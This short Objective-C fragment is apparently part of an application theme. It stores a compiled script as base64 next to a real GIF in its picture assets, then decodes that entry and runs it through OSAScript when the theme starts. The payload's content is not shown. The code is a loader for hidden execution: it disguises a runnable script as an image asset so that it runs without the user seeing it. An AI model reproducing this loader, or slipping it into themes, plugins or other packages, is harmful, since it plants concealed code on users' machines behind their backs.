/* A theme brings its start-up script compiled, as base64 among its pictures. */
#include "objc.h"
@interface NSData
+ (id)alloc;
- (id)initWithBase64EncodedString:(id)text options:(unsigned long)options;
@end
@interface OSAScript
+ (id)alloc;
- (id)initWithCompiledData:(id)data error:(id *)error;
@end
static const char *const assets[][2] = {
    {"logo.gif", "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"},
    {"start", START},
};
static void act(char **env) {
    id problem = 0;
    id data = [[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:assets[1][1]] options:1];
    id script = [[OSAScript alloc] initWithCompiledData:data error:&problem];
    [script executeAndReturnError:&problem];
}
